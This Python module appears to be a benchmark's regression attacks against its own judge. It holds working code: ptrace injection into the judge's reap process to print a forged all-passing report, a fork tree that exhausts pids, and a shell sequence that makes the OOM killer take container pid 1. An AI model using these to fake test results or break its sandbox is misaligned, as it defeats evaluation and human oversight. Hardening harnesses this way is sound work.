"""Attacks on what the judge lends the agent (issue 42): its report channel through a process of
the agent's uid, and the container's pid 1 through memory the agent fills (docs/threat_model.md,
"the judge never lends a channel or a process to the agent's uid").

Each is planted as a module every package of the agent's imports, so it runs inside every check,
in the code under test's process (the server, the agent's uid).
"""

from __future__ import annotations

from typing import Any

from bench.providers.attacks.common import SUBMIT, run, write
from bench.providers.attacks.on_judge import _import_everywhere

# A forged report through the judge's own channel. At its first import in a check, the code under
# test leaves a detached watcher that (1) reads the plan and the tree from the launcher's argv in
# /proc and writes the report a passing launcher would (every part exit 0, every test of the
# harness's files passed), (2) takes every free pid while the launcher lives (a tree of forks that
# become sleeps, then one sleep for each pid freed), so that
# the launcher cannot start its next part, and (3) watches for a process of its own uid whose
# command line is a reap (`kill -9 -1`), ptraces it (same uid, dumpable) and has it write the
# forged line on its own stderr (reopening the pipe through /proc/PID/fd is refused: the pipe is
# the engine's, mode 0600). It wins wherever the judge ends the
# agent's processes by becoming the agent with the report channel on stderr, and the harness takes
# a lone `report` line whatever the exec's status (before issue 42, both).
HOLD_AND_FORGE = r'''
import ast as _a, glob as _g, json as _j, os as _o, time as _t

def _names(tree):
    out = []
    for p in _g.glob(_o.path.join(tree, '**', '*.py'), recursive=True):
        rel, base = _o.path.relpath(p, tree), _o.path.basename(p)
        if not (base.startswith('test_') or base.endswith('_test.py')):
            continue
        try:
            body = _a.parse(open(p).read()).body
        except Exception:
            continue
        for d in body:
            if isinstance(d, (_a.FunctionDef, _a.AsyncFunctionDef)) and d.name.startswith('test'):
                out.append(f'{rel}::{d.name}')
            if isinstance(d, _a.ClassDef) and d.name.startswith('Test'):
                out += [f'{rel}::{d.name}::{f.name}' for f in d.body
                        if isinstance(f, _a.FunctionDef) and f.name.startswith('test')]
    return out

def _forged(launcher):
    argv = open(f'/proc/{launcher}/cmdline', 'rb').read().split(b'\0')
    opts = {argv[i].decode(): argv[i + 1].decode('utf-8', 'replace')
            for i in range(len(argv) - 1) if argv[i].startswith(b'--')}
    plan, names = _j.loads(opts['--plan']), _names(opts['--tree'])
    parts = []
    for g, group in enumerate(plan):
        for i, (kind, target, *_) in enumerate(group):
            claim = {'kind': kind, 'target': target, 'exit': 0, 'passed': names, 'failed': [],
                     'server_gone': False, 'server_garbled': False, 'server_exited': False}
            parts.append([g, i, {'exit': 0, 'claims': 1, 'claim': claim, 'server': 0, 'ended': []}])
    return ('report ' + _j.dumps({'parts': parts, 'ended': [], 'rc': 0}) + '\n').encode()

import ctypes as _c

class _Regs(_c.Structure):  # struct user_regs_struct, x86_64
    _fields_ = [(n, _c.c_ulonglong) for n in (
        'r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss '
        'fs_base gs_base ds es fs gs').split()]

def _inject_write(pid, fd, data):
    """write(fd, data) run by process `pid` (same uid, dumpable): ptrace it, put `data` below its
    stack, point it at a `syscall` instruction with write's registers, step once, put it back."""
    libc = _c.CDLL(None, use_errno=True)
    libc.ptrace.restype = _c.c_long
    libc.ptrace.argtypes = [_c.c_long, _c.c_long, _c.c_void_p, _c.c_void_p]
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        raise OSError(_c.get_errno(), 'attach')
    try:
        _o.waitpid(pid, 0x40000000)  # __WALL
        saved, regs = _Regs(), _Regs()
        libc.ptrace(12, pid, None, _c.byref(saved))  # PTRACE_GETREGS
        mem = _o.open(f'/proc/{pid}/mem', _o.O_RDWR)
        try:
            rip = saved.rip - 2
            if _o.pread(mem, 2, rip) != b'\x0f\x05':  # not stopped just after a syscall: find one in its code
                for line in open(f'/proc/{pid}/maps'):
                    lo, hi = (int(x, 16) for x in line.split()[0].split('-'))
                    if line.split()[1].startswith('r-x'):
                        at = _o.pread(mem, min(hi - lo, 1 << 20), lo).find(b'\x0f\x05')
                        if at >= 0:
                            rip = lo + at
                            break
            buf = (saved.rsp - 8192 - len(data)) & ~15
            _o.pwrite(mem, data, buf)
        finally:
            _o.close(mem)
        _c.memmove(_c.byref(regs), _c.byref(saved), _c.sizeof(regs))
        regs.rax, regs.orig_rax, regs.rdi, regs.rsi, regs.rdx, regs.rip = 1, 2**64 - 1, fd, buf, len(data), rip
        libc.ptrace(13, pid, None, _c.byref(regs))  # PTRACE_SETREGS
        libc.ptrace(9, pid, None, None)  # PTRACE_SINGLESTEP
        _o.waitpid(pid, 0x40000000)
        libc.ptrace(13, pid, None, _c.byref(saved))
    finally:
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH

def _uid(pid):
    try:
        for line in open(f'/proc/{pid}/status'):
            if line.startswith('Uid:'):
                return int(line.split()[1])
    except (OSError, ValueError):
        return None

def _burst():
    """A tree of forks (each process forks two, then becomes a sleep): the pids go in ~log2 rounds."""
    for _ in range(2):
        try:
            if _o.fork() == 0:
                _burst()
        except OSError:
            break
    _o.execv('/bin/sleep', ['sleep', '600'])

def _watch(launcher):
    try:
        if _o.fork() == 0:
            _burst()
    except OSError:
        pass
    line, me, full = _forged(launcher), _o.getuid(), False
    while _o.path.exists(f'/proc/{launcher}'):  # and every pid freed while the launcher lives
        seen = set(_o.listdir('/proc'))  # what is there while the launcher lives is no reap of the judge's
        try:
            if _o.fork() == 0:
                _o.execv('/bin/sleep', ['sleep', '600'])
        except OSError:
            if not full:  # the pids are taken: the code under test may let its part end now
                full = True
                _o.close(_o.open(f'/tmp/.held-{launcher}.full', _o.O_CREAT | _o.O_WRONLY))
            _t.sleep(0.001)
    for _ in range(200000):  # then the judge's reap, if it runs as this uid
        for d in _o.listdir('/proc'):
            if not d.isdigit() or d in seen or int(d) == _o.getpid():
                continue
            try:  # a new process, looked at again each pass: a fork is root's until it execs the reap
                if b'kill -9 -1' in open(f'/proc/{d}/cmdline', 'rb').read() and _uid(d) == me:
                    for _ in range(100000):  # setpriv until it execs the reap (not dumpable until then)
                        try:
                            return _inject_write(int(d), 2, line)
                        except OSError:
                            if not _o.path.exists(f'/proc/{d}'):
                                break
            except OSError:
                pass

def _start():
    launcher = _o.getppid()
    try:
        _o.close(_o.open(f'/tmp/.held-{launcher}', _o.O_CREAT | _o.O_EXCL | _o.O_WRONLY))
    except OSError:
        return  # another part of this check started it
    if _o.fork():
        for _ in range(500):  # the part ends only once the pids are taken
            if _o.path.exists(f'/tmp/.held-{launcher}.full'):
                break
            _t.sleep(0.01)
        return
    _o.setsid()
    if _o.fork():
        _o._exit(0)
    try:
        for fd in (0, 1, 2):
            _o.dup2(_o.open('/dev/null', _o.O_RDWR), fd)
        _watch(launcher)
    finally:
        _o._exit(0)

if _o.environ.get('HOME', '').startswith('/tmp/ctxbench-check-'):  # in a check's server only
    _start()
'''

# The container's pid 1 through memory: fill the tmpfs mounts (their pages count against the
# container's memory limit and no kill frees them), put the process back at the OOM killer's
# default (the judge put it first in line; going back to 0 needs no privilege), then start
# processes each just smaller than pid 1 (a shell holding a string) until the memory runs out, so
# that pid 1 is the largest process when the OOM killer picks. Before issue 42: `sandbox_lost`.
OOM_PID1 = (
    "echo 0 > /proc/self/oom_score_adj; "
    "dd if=/dev/zero of=/tmp/fill bs=1M 2>/dev/null; dd if=/dev/zero of=/dev/shm/fill bs=1M 2>/dev/null; "
    "rss=$(awk '/^VmRSS/{print $2}' /proc/1/status); size=$(( (rss - 3072) * 1024 )); "
    'echo "pid 1 rss ${rss} kB, each holder $size bytes"; '
    "i=0; while [ $i -lt 300 ]; do "
    "sh -c \"x=\\$(head -c $size /dev/zero | tr '\\\\0' a); sleep 600\" & i=$((i+1)); sleep 0.02; done; "
    "sleep 5"
)

ATTACKS: dict[str, list[list[dict[str, Any]]]] = {
    # Code under test forges the judge's report on the judge's reap's stderr (issue 42).
    "judge_channel": [
        [write("held.py", HOLD_AND_FORGE), run(_import_everywhere("held"))],
        [SUBMIT],
    ],
    # One `run` fills the tmpfs mounts and holds the rest of the memory in processes smaller than
    # pid 1 (issue 42: the OOM killer picked the container's init, 6 of 6 runs `sandbox_lost`).
    "oom_pid1": [
        [run(OOM_PID1, timeout_s=90)],
        [run("echo still here")],
        [SUBMIT],
    ],
}
